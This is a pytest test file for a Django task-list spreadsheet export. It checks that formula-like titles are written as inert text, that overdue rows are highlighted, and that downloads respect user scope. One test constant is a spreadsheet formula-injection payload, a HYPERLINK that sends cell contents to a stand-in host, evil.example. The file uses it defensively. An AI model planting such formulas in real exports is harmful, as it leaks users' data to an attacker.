"""The .xlsx of a task list: every text a user typed is written as text (a formula stays inert),
dates are dates, overdue rows are marked, and nobody gets rows they may not see."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from followups.actions.tasks import do_create_task
from followups.export import HEADERS, tasks_workbook
from followups.models import Task
from followups.tests.conftest import task_input, today

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


def _sheet(data: bytes):  # type: ignore[no-untyped-def]
    return load_workbook(io.BytesIO(data)).active


def test_formula_like_titles_are_written_as_text(ended, leader, province) -> None:
    do_create_task(leader, ended, task_input(province["stc"], title=FORMULA))
    ws = _sheet(tasks_workbook(Task.objects.all(), scope="+SUM(1,2)"))
    header = [c.value for c in ws[5]]
    assert header == HEADERS
    cell = ws.cell(row=6, column=2)
    assert cell.value == FORMULA and cell.data_type == "s" and cell.quotePrefix
    assert ws.cell(row=2, column=1).data_type == "s"
    assert ws.cell(row=6, column=8).is_date


def test_overdue_rows_are_marked(task) -> None:
    Task.objects.filter(pk=task.pk).update(deadline=today() - timedelta(days=1))
    ws = _sheet(tasks_workbook(Task.objects.all(), scope="x"))
    assert ws.cell(row=6, column=11).value == "Có"
    assert ws.cell(row=6, column=2).fill.fgColor.rgb.endswith("F8D7DA")


def test_the_export_download_follows_the_scope_and_filters(task, overseer, outsider, stc_leader, province) -> None:
    client = Client()
    client.force_login(overseer)
    response = client.get(reverse("followups:export"), {"scope": "all", "status": "new"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert _sheet(response.content).cell(row=6, column=2).value == task.title
    response = client.get(reverse("followups:export"), {"scope": "all", "status": "done"})
    assert _sheet(response.content).cell(row=6, column=2).value is None

    client.force_login(outsider)
    assert client.get(reverse("followups:export"), {"scope": "all"}).status_code == 404
    assert client.get(reverse("followups:export"), {"scope": "unit", "unit": province["stc"].pk}).status_code == 404
    mine = client.get(reverse("followups:export"))
    assert _sheet(mine.content).cell(row=6, column=2).value is None

    client.force_login(stc_leader)
    unit = client.get(reverse("followups:export"), {"scope": "unit", "unit": province["stc"].pk})
    assert _sheet(unit.content).cell(row=6, column=2).value == task.title
